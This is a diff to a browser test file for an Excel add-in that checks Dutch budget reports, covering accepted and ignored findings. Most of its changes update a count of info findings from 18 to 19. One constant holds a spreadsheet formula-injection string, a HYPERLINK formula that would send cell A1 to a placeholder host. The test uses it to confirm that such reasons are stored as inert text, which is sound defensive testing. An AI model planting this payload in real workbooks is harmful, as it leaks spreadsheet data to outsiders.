@@ -12,12 +12,12 @@ import { paneSuite } from "../support/paneSuite";
 /*
  * Accepting and ignoring findings in the production build (Debian Chromium, 320 px). The example has one fout,
  * Begroting D24 (438 where the explanation adds up to 436), 22 afrondingsverschillen, the first Samenvatting
- * C32 (52% where 53% follows), and 18 info (README; test/berap/example.test.ts). In Excel (the strict fake)
+ * C32 (52% where 53% follows), and 19 info (README; test/berap/example.test.ts). In Excel (the strict fake)
  * the decisions go to a very hidden sheet of text cells and survive a re-check and a reopened workbook until
  * a figure changes; standalone they go into a saved copy that the pane and berap-check both honour.
  */
 const suite = paneSuite();
-const START = "1 fout, 22 afrondingsverschillen, 18 info";
+const START = "1 fout, 22 afrondingsverschillen, 19 info";
 const HOSTILE_REASON = '=HYPERLINK("https://x.invalid/?"&A1) zie memo';
 
 /** A pane "in Excel" on a fake workbook: the example, or the sheets a previous pane left ("reopen"). */
@@ -71,7 +71,7 @@ describe("accepting and ignoring in Excel (strict fake)", () => {
         "",
         "Samenvatting C32 geaccepteerd als afrondingsverschil."
       );
-      await waitOverview(page, "1 fout, 21 afrondingsverschillen, 18 info · 1 geaccepteerd");
+      await waitOverview(page, "1 fout, 21 afrondingsverschillen, 19 info · 1 geaccepteerd");
       // Keyboard only: Negeren, the form, the reason, Enter on Opslaan.
       await page.getByRole("button", { name: "Negeren: Fout Begroting D24" }).focus();
       await page.keyboard.press("Enter");
@@ -81,7 +81,7 @@ describe("accepting and ignoring in Excel (strict fake)", () => {
       await page.getByTestId("besluit-melding").getByText("Begroting D24 genegeerd.").waitFor();
       await waitOverview(
         page,
-        "0 fouten, 21 afrondingsverschillen, 18 info · 1 geaccepteerd, 1 genegeerd"
+        "0 fouten, 21 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
       );
       // The finding left the list; focus went on to the next finding, whose headline has it.
       await expect(
@@ -117,8 +117,29 @@ describe("accepting and ignoring in Excel (strict fake)", () => {
 
       await runCheck(page);
       await expect(overview(page)).resolves.toBe(
-        "0 fouten, 21 afrondingsverschillen, 18 info · 1 geaccepteerd, 1 genegeerd"
+        "0 fouten, 21 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
       );
+
+      // The report sheet lists the decided findings apart, under their own title, their reason as text.
+      await page.getByRole("button", { name: "Rapport op nieuw blad" }).click();
+      await page.getByText(/Rapport met \d+ bevindingen geschreven op blad/).waitFor();
+      const report = (await page.evaluate(`(() => {
+        const ws = window.__fakeExcel.sheets.find((s) => s.name === "Berap-controle");
+        return ws.filledCells().map(([, , c]) => c);
+      })()`)) as { value: unknown; formula?: string }[];
+      const texts = report.map((c) => c.value);
+      expect(texts).toContain("Geaccepteerd en genegeerd");
+      expect(texts).toContain(HOSTILE_REASON);
+      expect(
+        texts.filter((v) => typeof v === "string" && /^(geaccepteerd|genegeerd)$/i.test(v)).length
+      ).toBe(2);
+      expect(
+        report.filter((c) => typeof c.formula === "string" && c.formula.includes("x.invalid"))
+      ).toEqual([]);
+      await page.evaluate(`(() => {
+        const x = window.__fakeExcel;
+        x.sheets.splice(x.sheets.findIndex((s) => s.name === "Berap-controle"), 1);
+      })()`);
       saved = (await page.evaluate(SAVED_FAKE)) as FakeSheetData[];
     } finally {
       await context.close();
@@ -130,7 +151,7 @@ describe("accepting and ignoring in Excel (strict fake)", () => {
     try {
       await runCheck(page);
       await expect(overview(page)).resolves.toBe(
-        "0 fouten, 21 afrondingsverschillen, 18 info · 1 geaccepteerd, 1 genegeerd"
+        "0 fouten, 21 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
       );
       // The controller changes Begroting D24 from 438 to 440 (row 24, column D: 0-based 23, 3).
       await page.evaluate(() => {
@@ -229,7 +250,7 @@ describe("accepting and ignoring standalone: the saved copy", () => {
     try {
       await openFile(page);
       await runCheck(page);
-      await page.getByRole("button", { name: "Info tonen (18)" }).click();
+      await page.getByRole("button", { name: "Info tonen (19)" }).click();
       await page.evaluate(() => window.scrollTo(0, document.documentElement.scrollHeight));
       await page.getByRole("button", { name: "Naar de eerste fout" }).click();
       await page.waitForFunction(() => window.scrollY < 2000);
@@ -276,7 +297,7 @@ describe("accepting and ignoring standalone: the saved copy", () => {
       );
       await waitOverview(
         page,
-        "0 fouten, 21 afrondingsverschillen, 18 info · 1 geaccepteerd, 1 genegeerd"
+        "0 fouten, 21 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
       );
       await page.getByTestId("niet-bewaard").waitFor();
       const download = page.waitForEvent("download");
@@ -294,7 +315,7 @@ describe("accepting and ignoring standalone: the saved copy", () => {
       await openFile(second.page, copy);
       await runCheck(second.page);
       await expect(overview(second.page)).resolves.toBe(
-        "0 fouten, 21 afrondingsverschillen, 18 info · 1 geaccepteerd, 1 genegeerd"
+        "0 fouten, 21 afrondingsverschillen, 19 info · 1 geaccepteerd, 1 genegeerd"
       );
     } finally {
       await second.context.close();
